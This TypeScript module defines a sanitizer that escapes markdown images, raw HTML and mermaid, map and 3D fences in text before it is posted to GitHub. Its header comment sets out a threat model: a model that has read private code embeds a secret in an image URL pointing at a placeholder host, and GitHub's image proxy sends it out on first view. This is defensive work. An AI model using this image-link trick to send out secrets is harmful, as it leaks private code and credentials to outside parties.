import { parse, postprocess, preprocess } from 'micromark';
import { gfm } from 'micromark-extension-gfm';

/**
 * Images and raw HTML out of text a model or a person wrote, before Baton
 * posts it. GitHub fetches every external image of a comment, review or pull
 * request body through its camo proxy as soon as anyone opens the page: a
 * model that read private code could write `![x](https://host/?d=<secret>)`
 * into its summary, and the secret would leave with the first view, no click
 * needed. Links stay (a click away); images and raw HTML must not render.
 *
 * The text is parsed as GitHub parses it (CommonMark and GFM, tables
 * included: in a table row a pipe splits cells even inside a code span, so
 * `` | `a|![x](u)|b` | `` renders an image) with micromark. Outside code, every
 * `![` becomes `!\[` (shown as written: inline, reference, collapsed and
 * shortcut images alike, whatever definition another part of the body holds),
 * and every `<` of raw HTML (inline HTML, HTML blocks) becomes `&lt;`. Code
 * (fenced, indented, code spans) is kept byte for byte, so a `suggestion`
 * block with `vec![1]` or `<div>` still applies as written. The result is
 * parsed again, until nothing is left to escape; when that does not settle (an
 * interaction not foreseen), every `<` and every `![` of the whole text is
 * escaped, code too, and every run of backticks or tildes that may open a
 * drawn fence gets `text ` before its info string: never text that renders an image or raw HTML.
 *
 * A fenced code block GitHub draws instead of showing is an embed too: it
 * picks a renderer by the first word of the info string, and `mermaid` (11.3
 * and later draw an image shape from an address, `A@{ img: "https://…" }`),
 * `geojson` and `topojson` (a map that loads tiles) and `stl` (a 3D viewer)
 * may load what the text names as the page is viewed. Such a fence gets `text `
 * before its info string (`text mermaid`), so it shows its code byte for byte
 * as code; the first word is judged case-insensitively and as a prefix, and
 * any word with a character reference (`&#109;ermaid`) counts, since the
 * info string's references are decoded. Baton's own diagrams (the status
 * comment's plan graph) are rendered by the app and never pass through here.
 *
 * Bounded for bodies up to 65,536 characters (about two seconds at worst,
 * a tenth of that for prose). micromark is slow on some shapes (a minute or
 * more for 65,000 characters of `*a_`, of `- - - …`, or of setext headings
 * in groups), so emphasis and strikethrough, which decide no image, HTML or code,
 * are not parsed, and the text is parsed in parts of at most `WINDOW`
 * characters, cut where nothing carries over: after a blank line, before a
 * line that starts in its first column, with no fenced code or HTML block open
 * across the blank line (only those outlive one; a link definition elsewhere
 * would, but every `![` outside code is escaped anyway). A part that cannot be
 * cut that short, or that holds a shape micromark is slow on (long chains of
 * block quote and list markers on one line, brackets nested deep, many setext
 * underlines), is escaped with everything after it as above, code too.
 *
 * This works on a text as it is placed: a body Baton assembles applies it to
 * the whole of what precedes its own markers (a list item's indentation, a
 * quote's `> `, two texts on one line and a cut decide what is code too).
 */
export function withoutEmbeds(text: string, { window = WINDOW }: { window?: number } = {}): string {
  if (!text.includes('<') && !text.includes('![') && !FENCE.test(text)) return text;
  try {
    return inParts(text, window) ?? everyEmbedEscaped(text);
  } catch {
    // micromark is not known to throw on any input; should it (a stack overflow), everything is escaped.
    return everyEmbedEscaped(text);
  }
}

/**
 * Every `<` and every `![` escaped, in code too, and every drawn fence's info
 * string made `text …`: nothing can render an image, raw HTML or a drawing.
 */
export function everyEmbedEscaped(text: string): string {
  return text
    .replace(/</g, '&lt;')
    .replace(/!\[/g, '!\\[')
    .replace(FENCE_RUN, (run: string, fence: string, space: string, word: string) =>
      isDrawnFence(word) ? `${fence}${space}text ${word}` : run,
    );
}

/** Three backticks or tildes: where a fence may be. */
const FENCE = /```|~~~/;
/**
 * A run of three backticks or tildes anywhere and the word after it: what may
 * open a fence, in whatever container (`everyEmbedEscaped` does not parse; a
 * code span's backticks get `text ` too, as its `<` gets `&lt;`).
 */
const FENCE_RUN = /(`{3,}|~{3,})([ \t]*)([^\s`]+)/g;
/**
 * The first words of an info string GitHub draws (mermaid, maps, 3D models)
 * rather than shows, as a prefix, lower case; `&` (a character reference, which
 * could spell any of them) and `\` (an escape) are judged drawn too.
 */
const DRAWN = /^(?:mermaid|geojson|topojson|stl)|[&\\]/;

/** Whether GitHub may draw a fence whose info string's first word is `word` instead of showing it. */
export function isDrawnFence(word: string): boolean {
  return DRAWN.test(word.toLowerCase());
}

/** The text escaped part by part; null when a part does not settle. */
function inParts(text: string, window: number): string | null {
  const parts: string[] = [];
  let at = 0;
  while (at < text.length) {
    const part = nextPart(text, at, window);
    if (part === null) return parts.join('') + everyEmbedEscaped(text.slice(at));
    const settled = settle(text.slice(at, part.end), part.found, part.end === text.length);
    if (settled === null) return null;
    parts.push(settled);
    at = part.end;
  }
  return parts.join('');
}

/** The most characters parsed at once; a fenced block longer than this is escaped, code too. */
const WINDOW = 8192;
/** Block quote and list markers at the start of one line, past which a part ends. */
const CHAIN_MAX = 8;
/** Brackets open at once (within a paragraph, as near as a count tells), past which a part ends. */
const BRACKETS_MAX = 32;
/** Setext underlines (and thematic breaks of `-`) in one part, past which a part ends. */
const UNDERLINES_MAX = 64;
/** Escaping and parsing again at most this often before the whole text is escaped. */
const ROUNDS = 4;

/** A line that starts `CHAIN_MAX` block quote or list markers deep. */
const CHAIN = new RegExp(
  String.raw`^(?:[ \t]*(?:>|(?:[*+-]|\d{1,9}[.)])(?=[ \t]|$))){${CHAIN_MAX}}`,
);
/** A setext heading's underline (or a thematic break of `-`, or a list item of one `-`). */
const UNDERLINE = /^ {0,3}(?:=+|-+)[ \t]*$/;
const BLANK = /^[ \t]*$/;
const LINE_END = /\r\n|\r|\n/g;

interface Range {
  start: number;
  end: number;
}

/** What a parse found: code, raw HTML, and the blocks that outlive a blank line (fenced code, HTML blocks). */
interface Found {
  code: Range[];
  html: Range[];
  blocks: Range[];
  /** The first words of fences' info strings that GitHub would draw. */
  drawn: Range[];
}

/** Emphasis and strikethrough decide no image, HTML or code, and cost micromark quadratic time. */
const EXTENSIONS = [gfm(), { disable: { null: ['attention', 'strikethrough'] } }];

function scan(text: string): Found {
  const events = postprocess(
    parse({ extensions: EXTENSIONS })
      .document()
      .write(preprocess()(text, undefined, true)),
  );
  // micromark skips a byte order mark at the start, and counts offsets after it.
  const shift = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  const found: Found = { code: [], html: [], blocks: [], drawn: [] };
  for (const [kind, token] of events) {
    if (kind !== 'enter') continue;
    const range = { start: token.start.offset + shift, end: token.end.offset + shift };
    switch (token.type) {
      case 'codeFenced':
        found.blocks.push(range);
        found.code.push(range);
        break;
      case 'codeIndented':
      case 'codeText':
        found.code.push(range);
        break;
      case 'htmlFlow':
        found.blocks.push(range);
        found.html.push(range);
        break;
      case 'htmlText':
        found.html.push(range);
        break;
      case 'codeFencedFenceInfo':
        if (isDrawnFence(text.slice(range.start, range.end))) found.drawn.push(range);
        break;
    }
  }
  return found;
}

/**
 * The part of `text` from `at` to parse on its own: where it ends, and what its
 * parse found (offsets from `at`). Null when no such part starts at `at`.
 */
function nextPart(text: string, at: number, window: number): { end: number; found: Found } | null {
  const { end, cuts } = windowOf(text, at, window);
  if (end === at) return null;
  const found = scan(text.slice(at, end));
  if (end === text.length) return { end, found };
  const cut = lastCut(cuts, found.blocks);
  if (cut === null) return null;
  const inside = (range: Range) => range.start < cut.at;
  return {
    end: at + cut.at,
    found: {
      code: found.code.filter(inside),
      html: found.html.filter(inside),
      blocks: found.blocks.filter(inside),
      drawn: found.drawn.filter(inside),
    },
  };
}

/** Where a part may end: the start of a line after a blank one (`blank`: where that begins). */
interface Cut {
  at: number;
  blank: number;
}

/**
 * How far from `at` a parse may go: whole lines, at most `window` characters,
 * none of a shape micromark is slow on; and where in it a part could end
 * (offsets from `at`).
 */
function windowOf(text: string, at: number, window: number): { end: number; cuts: Cut[] } {
  const cuts: Cut[] = [];
  let start = at;
  let blankBefore: number | null = null;
  let brackets = 0;
  let underlines = 0;
  while (start < text.length) {
    LINE_END.lastIndex = start;
    const ending = LINE_END.exec(text);
    const lineEnd = ending ? ending.index : text.length;
    const next = ending ? ending.index + ending[0].length : text.length;
    const line = text.slice(start, lineEnd);
    const blank = BLANK.test(line);
    // A part may end before this line whether or not the parse takes it.
    if (!blank && blankBefore !== null && start > at && !/\s/.test(line.charAt(0))) {
      cuts.push({ at: start - at, blank: blankBefore });
    }
    if (next - at > window) return { end: start, cuts };
    if (blank) {
      brackets = 0;
      blankBefore = start - at;
      start = next;
      continue;
    }
    blankBefore = null;
    brackets = deepestBrackets(line, brackets);
    const slow =
      CHAIN.test(line) ||
      (UNDERLINE.test(line) && ++underlines > UNDERLINES_MAX) ||
      brackets > BRACKETS_MAX;
    if (slow) return { end: start, cuts };
    start = next;
  }
  return { end: text.length, cuts };
}

/** The brackets open after `line`, starting with `open`; past `BRACKETS_MAX` at any point, more than it. */
function deepestBrackets(line: string, open: number): number {
  let depth = open;
  for (let i = 0; i < line.length; i++) {
    const char = line.charCodeAt(i);
    if (char === 91) {
      depth++;
      if (depth > BRACKETS_MAX) return depth;
    } else if (char === 93 && depth > 0) depth--;
  }
  return depth;
}

/** The last cut no fenced code or HTML block runs across (blocks sorted by start, as parsed). */
function lastCut(cuts: Cut[], blocks: Range[]): Cut | null {
  let found: Cut | null = null;
  let reach = 0;
  let next = 0;
  for (const cut of cuts) {
    while (next < blocks.length && (blocks[next]?.start ?? 0) < cut.blank) {
      reach = Math.max(reach, blocks[next]?.end ?? 0);
      next++;
    }
    if (reach <= cut.blank) found = cut;
  }
  return found;
}

/**
 * A part escaped until its parse finds nothing to escape; null when it does
 * not settle, or when escaping left a block open past its end (the part
 * after it would no longer stand alone).
 */
function settle(part: string, found: Found, last: boolean): string | null {
  let current = part;
  let scanned = found;
  for (let round = 0; round < ROUNDS; round++) {
    const escaped = escapeOutsideCode(current, scanned);
    if (escaped === current) {
      return round === 0 || last || closedAtEnd(current, scanned.blocks) ? current : null;
    }
    current = escaped;
    scanned = scan(current);
  }
  return null;
}

/** Whether no fenced code or HTML block runs across the blank line that ends `part`. */
function closedAtEnd(part: string, blocks: Range[]): boolean {
  const body = part.replace(/(?:\r\n|\r|\n)$/, '');
  const blank = Math.max(body.lastIndexOf('\n'), body.lastIndexOf('\r')) + 1;
  return blocks.every((block) => block.start >= blank || block.end <= blank);
}

const CODE = 1;
const HTML = 2;
const DRAWN_INFO = 3;

/**
 * `![` outside code becomes `!\[`; `<` of raw HTML becomes `&lt;`; a drawn
 * fence's info string gets `text ` before it. The same string when nothing is.
 */
function escapeOutsideCode(text: string, found: Found): string {
  const kind = new Uint8Array(text.length);
  for (const range of found.code) kind.fill(CODE, range.start, range.end);
  for (const range of found.html) kind.fill(HTML, range.start, range.end);
  for (const range of found.drawn) kind[range.start] = DRAWN_INFO;
  let out = '';
  let copied = 0;
  for (let i = 0; i < text.length; i++) {
    const char = text.charCodeAt(i);
    if (kind[i] === DRAWN_INFO) {
      out += `${text.slice(copied, i)}text `;
      copied = i;
    } else if (char === 60 && kind[i] === HTML) {
      out += `${text.slice(copied, i)}&lt;`;
      copied = i + 1;
    } else if (char === 33 && text.charCodeAt(i + 1) === 91 && kind[i] !== CODE) {
      out += `${text.slice(copied, i + 1)}\\`;
      copied = i + 1;
    }
  }
  return copied === 0 ? text : out + text.slice(copied);
}
